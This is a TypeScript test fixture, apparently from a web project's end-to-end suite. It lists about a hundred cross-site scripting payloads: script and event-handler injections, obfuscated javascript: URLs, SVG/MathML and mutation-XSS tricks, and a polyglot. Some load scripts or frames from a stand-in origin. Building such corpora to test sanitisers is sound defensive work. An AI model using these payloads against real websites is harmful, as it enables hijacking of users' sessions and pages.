// A corpus of XSS payloads for end-to-end tests. Each one, if it ever ran, leaves a trace the
// test can see: it sets `top.__xss_<name>`, opens a dialog whose message is its name, or loads
// something from http://xss.invalid/<name> (an origin no page of ours ever uses).

/** The origin every payload that loads something loads it from. */
export const XSS_ORIGIN = "http://xss.invalid";

/** The prefix of every global a payload sets; a page is clean when no global starts with it. */
export const XSS_MARKER_PREFIX = "__xss";

/**
 * How a payload runs when its raw HTML is put straight into a page in today's Chromium:
 * - `load`: by itself, as the page loads (with JavaScript on);
 * - `click`: when the element matched by `click` is clicked;
 * - `context`: not as standalone HTML, only in another context (an attribute, an inline script,
 *   JSON, a comment) or after a naive filter or a sanitiser has rewritten it (mXSS);
 * - `legacy`: only in older browsers; Chromium blocks or ignores it now.
 */
export type Fires = "load" | "click" | "context" | "legacy";

export type XssPayload = {
  /** Short and unique; a valid identifier, as it is part of the global the payload sets. */
  name: string;
  html: string;
  fires: Fires;
  /** For `click` payloads: what to click to set it off. */
  click?: string;
};

type Parts = {
  name: string;
  /** JavaScript that records the payload ran: sets `top.__xss_<name>`. */
  run: string;
  /** A URL on the foreign origin, unique to the payload. */
  beacon: string;
};

function payload(
  name: string,
  fires: Fires,
  build: (parts: Parts) => string,
  click?: string,
): XssPayload {
  const html = build({
    name,
    run: `top.${XSS_MARKER_PREFIX}_${name}=1`,
    beacon: `${XSS_ORIGIN}/${name}`,
  });
  return click ? { name, html, fires, click } : { name, html, fires };
}

const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

/** Every character as a decimal character reference. */
const decimalEntities = (text: string) =>
  Array.from(text, (character) => `&#${character.codePointAt(0)};`).join("");

export const xssPayloads: XssPayload[] = [
  // Script elements.
  payload("script_plain", "load", ({ run }) => `<script>${run}</script>`),
  payload("script_upper", "load", ({ run }) => `<SCRIPT>${run}</SCRIPT>`),
  payload(
    "script_alert",
    "load",
    ({ name }) => `<script type="text/javascript">alert('${name}')</script>`,
  ),
  payload("script_split_whitespace", "load", ({ run }) => `<script\n>${run}</script\n>`),
  payload("script_slash_attribute", "load", ({ run }) => `<script/xss>${run}</script>`),
  // Becomes a working <script> once a naive filter removes the inner "<script>".
  payload("script_nested", "context", ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`),
  payload("script_src", "load", ({ beacon }) => `<script src="${beacon}.js"></script>`),
  payload("script_breakout", "load", ({ run }) => `</script><script>${run}</script>`),
  // Inside an inline script, "<!--<script>" keeps a later "</script>" from closing it.
  payload("script_comment_escape", "context", ({ run }) => `<!--<script>${run}</script>-->`),

  // Breaking out of an attribute or a script literal.
  payload("attribute_breakout_double", "load", ({ run }) => `"><img src=x onerror="${run}">`),
  payload("attribute_breakout_single", "load", ({ run }) => `'><svg onload='${run}'>`),
  payload("js_line_separators", "context", ({ run }) => `\u2028${run};//\u2029`),
  payload("template_injection", "context", ({ run }) => `{{constructor.constructor('${run}')()}}`),

  // Event handlers.
  payload("img_onerror", "load", ({ run }) => `<img src=x onerror="${run}">`),
  payload("img_onerror_mixed_case", "load", ({ name }) => `<IMG SRC=x OnErRoR=confirm('${name}')>`),
  payload("img_slashes", "load", ({ run }) => `<img/src="x"/onerror="${run}">`),
  payload("img_attribute_no_space", "load", ({ run }) => `<img src="x"onerror="${run}">`),
  payload("body_onload", "load", ({ run }) => `<body onload="${run}">`),
  payload("svg_onload", "load", ({ run }) => `<svg onload="${run}">`),
  payload("svg_slash_onload_prompt", "load", ({ name }) => `<svg/onload=prompt('${name}')>`),
  payload(
    "details_ontoggle",
    "load",
    ({ name, run }) => `<details open ontoggle="${run}"><summary>${name}</summary></details>`,
  ),
  payload("input_autofocus_onfocus", "load", ({ run }) => `<input autofocus onfocus="${run}">`),
  payload(
    "video_source_onerror",
    "load",
    ({ run }) => `<video><source src="x" onerror="${run}"></video>`,
  ),
  payload("audio_onerror", "load", ({ run }) => `<audio src="x" onerror="${run}"></audio>`),
  payload(
    "marquee_onstart",
    "legacy",
    ({ name, run }) => `<marquee onstart="${run}">${name}</marquee>`,
  ),
  payload("iframe_onload", "load", ({ run }) => `<iframe onload="${run}"></iframe>`),
  payload("style_onload", "load", ({ run }) => `<style onload="${run}"></style>`),
  payload(
    "animation_onanimationstart",
    "load",
    ({ name, run }) =>
      `<style>@keyframes xss_spin{from{opacity:1}to{opacity:1}}</style>` +
      `<p style="animation:xss_spin 1s" onanimationstart="${run}">${name}</p>`,
  ),
  payload(
    "a_onclick",
    "click",
    ({ name, run }) => `<a href="https://example.com/" onclick="${run};return false">${name}</a>`,
    "a",
  ),

  // javascript: URLs.
  payload("a_js_plain", "click", ({ name, run }) => `<a href="javascript:${run}">${name}</a>`, "a"),
  payload(
    "a_js_mixed_case",
    "click",
    ({ name, run }) => `<a href="JaVaScRiPt:${run}">${name}</a>`,
    "a",
  ),
  payload(
    "a_js_unquoted",
    "click",
    ({ name, run }) => `<a href=javascript:${run}>${name}</a>`,
    "a",
  ),
  payload(
    "a_js_all_entities",
    "click",
    ({ name, run }) => `<a href="${decimalEntities("javascript:")}${run}">${name}</a>`,
    "a",
  ),
  payload(
    "a_js_first_char_entity",
    "click",
    ({ name, run }) => `<a href="&#106;avascript:${run}">${name}</a>`,
    "a",
  ),
  payload(
    "a_js_tab_entity",
    "click",
    ({ name, run }) => `<a href="java&#x09;script:${run}">${name}</a>`,
    "a",
  ),
  payload(
    "a_js_raw_whitespace",
    "click",
    ({ name, run }) => `<a href=" \tjava\nscr\tipt:${run}">${name}</a>`,
    "a",
  ),
  payload(
    "a_js_named_entities",
    "click",
    ({ name, run }) => `<a href="jav&NewLine;ascript&colon;${run}">${name}</a>`,
    "a",
  ),
  payload(
    "a_js_leading_controls",
    "click",
    ({ name, run }) => `<a href="&#x0B;&#x01;javascript:${run}">${name}</a>`,
    "a",
  ),
  payload(
    "a_js_percent_encoded",
    "click",
    ({ name }) => `<a href="javascript:%74op.${XSS_MARKER_PREFIX}_${name}%3D1">${name}</a>`,
    "a",
  ),
  payload(
    "a_vbscript",
    "legacy",
    ({ name }) => `<a href="vbscript:msgbox('${name}')">${name}</a>`,
    "a",
  ),
  payload(
    "form_action_js",
    "click",
    ({ name, run }) => `<form action="javascript:${run}"><button>${name}</button></form>`,
    "button",
  ),
  payload(
    "button_formaction_js",
    "click",
    ({ name, run }) => `<form><button formaction="javascript:${run}">${name}</button></form>`,
    "button",
  ),
  payload("iframe_src_js", "load", ({ run }) => `<iframe src="javascript:${run}"></iframe>`),
  payload("object_data_js", "legacy", ({ run }) => `<object data="javascript:${run}"></object>`),
  payload("embed_src_js", "legacy", ({ run }) => `<embed src="javascript:${run}">`),

  // data: URLs.
  payload(
    "a_data_html",
    "legacy",
    ({ name }) =>
      `<a href="data:text/html;base64,${base64(`<script>alert('${name}')</script>`)}">${name}</a>`,
    "a",
  ),
  payload(
    "iframe_data_html",
    "load",
    ({ beacon }) =>
      `<iframe src="data:text/html;base64,${base64(`<img src="${beacon}">`)}"></iframe>`,
  ),
  payload(
    "object_data_html",
    "load",
    ({ beacon }) =>
      `<object data="data:text/html;base64,${base64(`<img src="${beacon}">`)}"></object>`,
  ),
  payload(
    "embed_data_svg",
    "load",
    ({ beacon }) =>
      `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(
        `<svg xmlns="http://www.w3.org/2000/svg"><image href="${beacon}" width="9" height="9"/></svg>`,
      )}">`,
  ),
  payload(
    "img_data_svg_onload",
    "legacy",
    ({ run }) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  ),

  // SVG.
  payload("svg_script", "load", ({ run }) => `<svg><script>${run}</script></svg>`),
  payload(
    "svg_script_href",
    "load",
    ({ beacon }) => `<svg><script href="${beacon}.js"></script></svg>`,
  ),
  payload(
    "svg_a_xlink_href",
    "click",
    ({ name, run }) =>
      `<svg width="300" height="40"><a xlink:href="javascript:${run}"><text x="5" y="20">${name}</text></a></svg>`,
    "svg text",
  ),
  payload(
    "svg_animate_onbegin",
    "load",
    ({ run }) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  ),
  payload(
    "svg_set_href",
    "click",
    ({ name, run }) =>
      `<svg width="300" height="40"><a><set attributeName="href" to="javascript:${run}"/><text x="5" y="20">${name}</text></a></svg>`,
    "svg text",
  ),
  payload(
    "svg_foreignobject",
    "load",
    ({ run }) =>
      `<svg><foreignObject width="100" height="100"><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  ),
  payload(
    "svg_image_href",
    "load",
    ({ beacon }) => `<svg><image href="${beacon}" width="9" height="9"/></svg>`,
  ),
  payload(
    "svg_style_namespace",
    "load",
    ({ run }) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  ),

  // MathML.
  payload(
    "math_mglyph_style",
    "context",
    ({ run }) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  ),
  payload(
    "math_href",
    "legacy",
    ({ name, run }) => `<math href="javascript:${run}"><mi>${name}</mi></math>`,
    "math",
  ),
  payload(
    "math_style_breakout",
    "load",
    ({ run }) => `<math><style><img src=x onerror="${run}"></style></math>`,
  ),

  // Mutation XSS: markup that changes meaning when parsed again, or in another namespace.
  payload(
    "noscript_title",
    "load",
    ({ run }) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  ),
  payload(
    "form_math_mglyph",
    "context",
    ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  ),
  payload(
    "template_content",
    "context",
    ({ run }) => `<template><img src=x onerror="${run}"></template>`,
  ),
  payload(
    "template_shadowroot",
    "load",
    ({ run }) =>
      `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
  ),
  payload("xmp_title", "load", ({ run }) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`),
  payload(
    "textarea_title",
    "load",
    ({ run }) => `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  ),
  payload(
    "iframe_text_title",
    "load",
    ({ run }) => `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  ),

  // Comments and other bogus markup.
  payload("comment_abrupt", "load", ({ run }) => `<!--><img src=x onerror="${run}">-->`),
  payload("comment_bang_close", "load", ({ run }) => `<!-- x --!><img src=x onerror="${run}">-->`),
  payload(
    "comment_conditional",
    "legacy",
    ({ run }) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  ),
  payload("cdata_bogus_comment", "load", ({ run }) => `<![CDATA[><img src=x onerror="${run}">]]>`),
  payload("processing_instruction", "load", ({ run }) => `<?xss ><img src=x onerror="${run}">?>`),

  // Broken markup.
  payload("img_unclosed_tag", "load", ({ run }) => `<img src=x onerror=${run}//`),
  payload(
    "unclosed_attribute",
    "context",
    ({ name, run }) => `<p title="${name}><img src=x onerror=${run}>`,
  ),
  payload("double_angle", "load", ({ run }) => `<<img src=x onerror="${run}">>`),
  payload(
    "polyglot",
    "load",
    ({ run }) =>
      "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=" +
      run +
      " )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=" +
      run +
      "//>\\x3e",
  ),

  // Frames, refreshes and the base URL.
  payload(
    "iframe_srcdoc_script",
    "load",
    ({ run }) => `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  ),
  payload(
    "iframe_srcdoc_img",
    "load",
    ({ run }) => `<iframe srcdoc="<img src=x onerror=${run}>"></iframe>`,
  ),
  payload("iframe_remote", "load", ({ beacon }) => `<iframe src="${beacon}"></iframe>`),
  payload(
    "meta_refresh_js",
    "legacy",
    ({ run }) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  ),
  payload(
    "meta_refresh_remote",
    "load",
    ({ beacon }) => `<meta http-equiv="refresh" content="0;url=${beacon}">`,
  ),
  payload(
    "base_href",
    "load",
    ({ beacon }) => `<base href="${beacon}/"><img src="relative.png" alt="">`,
  ),

  // Style sheets and CSS.
  payload(
    "link_stylesheet",
    "load",
    ({ beacon }) => `<link rel="stylesheet" href="${beacon}.css">`,
  ),
  payload("style_import", "load", ({ beacon }) => `<style>@import url(${beacon}.css);</style>`),
  payload(
    "style_attribute_url",
    "load",
    ({ name, beacon }) => `<p style="background-image:url(${beacon})">${name}</p>`,
  ),
  payload(
    "style_attribute_js_url",
    "legacy",
    ({ name, run }) => `<p style="background:url(javascript:${run})">${name}</p>`,
  ),
  payload(
    "css_expression",
    "legacy",
    ({ name, run }) => `<p style="width:expression(${run})">${name}</p>`,
  ),

  // Plugins and other things that fetch.
  payload("object_remote", "load", ({ beacon }) => `<object data="${beacon}"></object>`),
  payload("embed_remote", "load", ({ beacon }) => `<embed src="${beacon}">`),
  payload("img_remote", "load", ({ name, beacon }) => `<img src="${beacon}" alt="${name}">`),
  payload("img_srcset", "load", ({ beacon }) => `<img srcset="${beacon} 1x" alt="">`),
  payload("video_poster", "load", ({ beacon }) => `<video poster="${beacon}"></video>`),
  payload(
    "input_image",
    "load",
    ({ name, beacon }) => `<input type="image" src="${beacon}" alt="${name}">`,
  ),
];

/** The payloads that can stand as plain text anywhere: no control characters. */
export function isPlainText(text: string) {
  return !/\p{Cc}/u.test(text);
}
